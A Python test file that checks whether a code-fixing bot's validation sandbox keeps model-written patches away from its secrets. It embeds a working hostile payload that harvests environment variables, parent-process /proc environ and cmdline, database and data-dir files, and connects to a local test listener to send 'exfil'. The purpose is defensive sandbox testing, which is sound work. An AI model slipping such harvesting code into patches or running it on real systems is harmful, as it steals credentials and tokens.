"""Model-written code under validation reaches no secret of the bot.

The "bot" here is a real separate process started with distinctive secrets in its environment (so
they are in its `/proc/<pid>/environ`, as they are for `agent run`), an SQLite database file and a
data dir. It validates two hostile patches: one in a test file, one a module-level statement that
the import step executes. Each tries every environment variable, `/proc/<pid>/environ` and `cmdline`
of its parent and all their parents, the database file and the data dir, and a TCP connection to a
server of the test on 127.0.0.1. What it found is written to a file outside the repository and
printed into the validation output; the test asserts on the secrets' values in both.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fixes import children as children_module
from fixes.validation import sandbox as sandbox_module
from fixes.validation.sandbox import ISOLATED, Sandbox, probe

SECRETS = {
    "SLACK_BOT_TOKEN": "xoxb-leak-7f3a9c21",
    "SLACK_SIGNING_SECRET": "sign-leak-51d2e8aa",
    "LLM_API_KEY": "sk-leak-0b44aa90",
    "GIT_TOKEN": "ghp-leak-93c1f0de",
    "FIXBOT_GIT_TOKEN": "ghp-askpass-leak-66e2",
}
DB_BYTES = "DBLEAK-e2a1c7-approver-U0ALICE"

HOSTILE = """
import os, socket, json
def _loot(port, out):
    found = {"env": dict(os.environ), "proc": [], "files": [], "connect": ""}
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/status") as f:
                ppid = int([l for l in f if l.startswith("PPid:")][0].split()[1])
        except OSError:
            break
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{ppid}/{what}", "rb") as f:
                    found["proc"].append(f.read().decode("utf-8", "replace"))
            except OSError as exc:
                found["proc"].append(f"{ppid}/{what}: {exc}")
        if ppid <= 1:
            break
        pid = ppid
    for path in DATA_PATHS:
        try:
            if os.path.isdir(path):
                found["files"].append(repr(os.listdir(path)))
                for name in os.listdir(path):
                    with open(os.path.join(path, name), "rb") as f:
                        found["files"].append(f.read().decode("utf-8", "replace"))
            else:
                with open(path, "rb") as f:
                    found["files"].append(f.read().decode("utf-8", "replace"))
        except OSError as exc:
            found["files"].append(f"{path}: {exc}")
    try:
        socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"exfil")
        found["connect"] = "connected"
    except OSError as exc:
        found["connect"] = f"failed: {exc}"
    text = json.dumps(found)
    print("LOOT", text)
    try:
        with open(out, "a") as f:
            f.write(text + "\\n")
    except OSError:
        pass
_loot(PORT, OUT)
"""

DRIVER = """
import json, sys
from pathlib import Path
from tests.fixes.validation.support import judge, plan, tree
root, data, patch_file = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3])
patch = json.loads(patch_file.read_text())
result = judge(root, patch, plan(root, data, sandbox=sys.argv[4]))
print(json.dumps({"status": result.status, "step": result.step, "output": result.output}))
"""


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records whatever connects to it."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                received.append(conn.recv(100) or b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    server.close()


def _bot_validates(
    tmp_path: Path, patch: dict[str, str], port: int, sandbox: str
) -> tuple[dict[str, str], str]:
    """Run the 'bot' process with the secrets; return (its validation result, the loot file's text)."""
    data = tmp_path / "data"
    (data / "worktrees").mkdir(parents=True)
    (data / "agent.db").write_text(DB_BYTES)
    (data / "worktrees" / "askpass.sh").write_text("#!/bin/sh\necho $FIXBOT_GIT_TOKEN\n")
    root = data / "worktrees" / "target"  # the pipeline's clone lives in the data dir too
    files = {
        "calc/__init__.py": "",
        "calc/ops.py": "def add(a, b):\n    return a + b\n",
        "tests/test_ops.py": "from calc.ops import add\n\n\ndef test_add():\n    assert add(2, 2) == 4\n",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    loot = tmp_path / "loot.txt"
    prelude = f"DATA_PATHS = {[str(data), str(data / 'agent.db')]!r}\nPORT = {port}\nOUT = {str(loot)!r}\n"
    hostile = {rel: text.replace("HOSTILE", prelude + HOSTILE) for rel, text in patch.items()}
    patch_file = tmp_path / "patch.json"
    patch_file.write_text(json.dumps(hostile))
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), **SECRETS}
    done = subprocess.run(
        [sys.executable, "-c", DRIVER, str(root), str(data), str(patch_file), sandbox],
        capture_output=True,
        text=True,
        env=env,
        cwd=Path(__file__).parents[3],
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    return result, loot.read_text() if loot.exists() else ""


PATCHES = {
    "in a test file": {
        "tests/test_ops.py": "HOSTILE\nfrom calc.ops import add\n\n\ndef test_add():\n    assert add(2, 2)"
    },
    "at import of a module": {"calc/ops.py": "HOSTILE\ndef add(a, b):\n    return a + b\n"},
}


@pytest.mark.parametrize("where", list(PATCHES))
def test_hostile_patch_obtains_no_secret(
    tmp_path: Path, listener: tuple[int, list[bytes]], where: str
) -> None:
    """At every level: no secret in the run's environment. With namespaces: nothing of the bot's
    process, database or data dir is readable, and the connection to 127.0.0.1 fails."""
    port, received = listener
    result, loot = _bot_validates(tmp_path, PATCHES[where], port, "auto")
    evidence = loot + result["output"]
    assert "LOOT" in result["output"], "the hostile code did not run: the test proves nothing"
    assert loot
    leaked = [name for name, value in SECRETS.items() if value in evidence]
    assert [] == leaked
    if probe()[0] != ISOLATED:
        pytest.skip(f"no namespaces here ({probe()[2]}): env-only promises only the environment")
    assert DB_BYTES not in evidence
    assert "echo $FIXBOT_GIT_TOKEN" not in evidence
    assert [] == received
    found = [json.loads(line) for line in loot.splitlines()]
    assert all(entry["connect"].startswith("failed") for entry in found)
    assert result["status"] == "passed"  # the hostile code itself breaks no test; the sandbox held


def test_env_only_level_still_gives_no_environment(tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    """`sandbox = off`: the allow-listed environment and limits stay; no secret in os.environ."""
    port, _ = listener
    result, loot = _bot_validates(tmp_path, PATCHES["at import of a module"], port, "off")
    envs = [json.loads(line)["env"] for line in loot.splitlines()]
    assert envs
    assert all(not set(SECRETS) & set(env) for env in envs)
    assert all(value not in json.dumps(envs) for value in SECRETS.values())
    assert "sandbox: env-only" in result["output"]


def test_timeout_kills_the_whole_tree(tmp_path: Path) -> None:
    """A run that starts a grandchild and outlives its timeout leaves no process behind."""
    script = (
        "import subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'])\n"
        "print(child.pid, flush=True)\n"
        "time.sleep(300)\n"
    )
    done = Sandbox(mode="off").run([sys.executable, "-c", script], cwd=tmp_path, timeout=5)
    grandchild = int(done.output.split()[0])
    assert done.error == "timed out after 5s"
    # SIGKILL was sent to the whole group; its delivery is immediate but dying takes a moment on a
    # loaded machine: wait (bounded) until the grandchild is gone or a zombie, never alive.
    deadline = time.monotonic() + 30
    while _alive(grandchild) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(grandchild)


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in ("Z", "X")


def test_limits_apply(tmp_path: Path) -> None:
    """The file-size rlimit stops a run that writes too much."""
    from fixes.validation.sandbox import Limits

    sandbox = Sandbox(mode="off", limits=Limits(file_bytes=1 << 20))
    done = sandbox.run(
        [sys.executable, "-c", "open('big', 'wb').write(b'x' * (4 << 20))"], cwd=tmp_path, timeout=60
    )
    assert done.status != 0
    assert (tmp_path / "big").stat().st_size <= 1 << 20


READ_PARENT = """
import os
try:
    print(open(f"/proc/{os.getppid()}/environ", "rb").read().decode("utf-8", "replace"))
except OSError as exc:
    print("denied:", exc)
"""

NON_ROOT_BOT = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
import sandbox
done = sandbox.Sandbox(mode="off").run([sys.executable, "-c", sys.argv[2]], cwd=Path(sys.argv[1]), timeout=60)
print(done.output)
"""


def _bot_as_nobody(path: str, bot: list[str]) -> subprocess.CompletedProcess[str]:
    """`bot` run as the unprivileged user nobody, with PATH `path`, one secret and nothing else."""
    secret = f"LLM_API_KEY={SECRETS['LLM_API_KEY']}"
    command = shlex.join(["env", "-i", f"PATH={path}", secret, *bot])
    done = subprocess.run(
        ["su", "nobody", "-s", "/bin/sh", "-c", command],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    if done.stderr.startswith("env:") and "Permission denied" in done.stderr:
        pytest.skip(f"the interpreter is not usable by nobody: {done.stderr[-200:]}")
    return done


def test_env_only_as_non_root_hides_the_bots_environ() -> None:
    """Railway's case (no root, no namespaces): the bot marks itself non-dumpable, so the run, as the
    same user, cannot read the bot's /proc/<pid>/environ. Needs root here to become another user."""
    if os.geteuid() != 0 or shutil.which("su") is None:
        pytest.skip("needs root to run the bot as an unprivileged user")
    folder = Path(tempfile.mkdtemp(prefix="fixbot-nonroot-"))
    try:
        folder.chmod(0o755)
        shutil.copy(Path(sandbox_module.__file__), folder / "sandbox.py")
        # The system interpreter: this test's own venv may not be readable by nobody; the sandbox
        # module needs only the standard library.
        python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
        done = _bot_as_nobody("/usr/bin:/bin", [python, "-c", NON_ROOT_BOT, str(folder), READ_PARENT])
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    assert "denied:" in done.stdout, done.stdout + done.stderr
    assert SECRETS["LLM_API_KEY"] not in done.stdout


NO_UNSHARE_BOT = """
import os, sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from fixes.validation import sandbox
print("LEVEL", sandbox.isolation_level("auto"))
try:
    sandbox.Sandbox(mode="strict").check()
    print("STRICT ran")
except sandbox.SandboxUnavailable as exc:
    print("STRICT refused:", exc)
work = Path(sys.argv[1]) / "work"
done = sandbox.Sandbox(mode="auto").run([sys.executable, "-c", sys.argv[2]], cwd=work, timeout=60)
print(done.output)
"""


def test_railway_like_container_without_root_or_unshare(tmp_path: Path) -> None:
    """A Railway-like container: the bot is not root and has no `unshare` (util-linux is not in the
    image). `auto` says plainly that it runs at `env-only` and why, `strict` refuses to validate, and
    a run at `env-only` still gets none of the bot's environment nor its /proc environ."""
    if os.geteuid() != 0 or shutil.which("su") is None:
        pytest.skip("needs root to run the bot as an unprivileged user")
    folder = Path(tempfile.mkdtemp(prefix="fixbot-railway-"))
    try:
        folder.chmod(0o755)
        # The two modules the sandbox needs (standard library only), as a package nobody can read.
        for name in ("fixes/__init__.py", "fixes/validation/__init__.py"):
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text("")
        shutil.copy(Path(sandbox_module.__file__), folder / "fixes" / "validation" / "sandbox.py")
        shutil.copy(Path(children_module.__file__), folder / "fixes" / "children.py")
        for path in folder.rglob("*"):
            path.chmod(0o755 if path.is_dir() else 0o644)
        (folder / "work").mkdir()
        (folder / "work").chmod(0o1777)  # the run's working directory, writable by the bot
        bin_dir = folder / "bin"  # a PATH with an interpreter and nothing else: no unshare, no mount
        bin_dir.mkdir(mode=0o755)
        python = shutil.which("python3", path="/usr/bin:/bin") or sys.executable
        (bin_dir / "python3").symlink_to(python)  # after the chmods: chmod follows a link
        done = _bot_as_nobody(str(bin_dir), [python, "-c", NO_UNSHARE_BOT, str(folder), READ_PARENT])
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    out = done.stdout
    assert "LEVEL env-only (no namespaces here: unshare is not installed)" in out, out + done.stderr
    assert "STRICT refused: sandbox = strict and the isolation is not available here" in out
    assert "denied:" in out
    assert SECRETS["LLM_API_KEY"] not in out
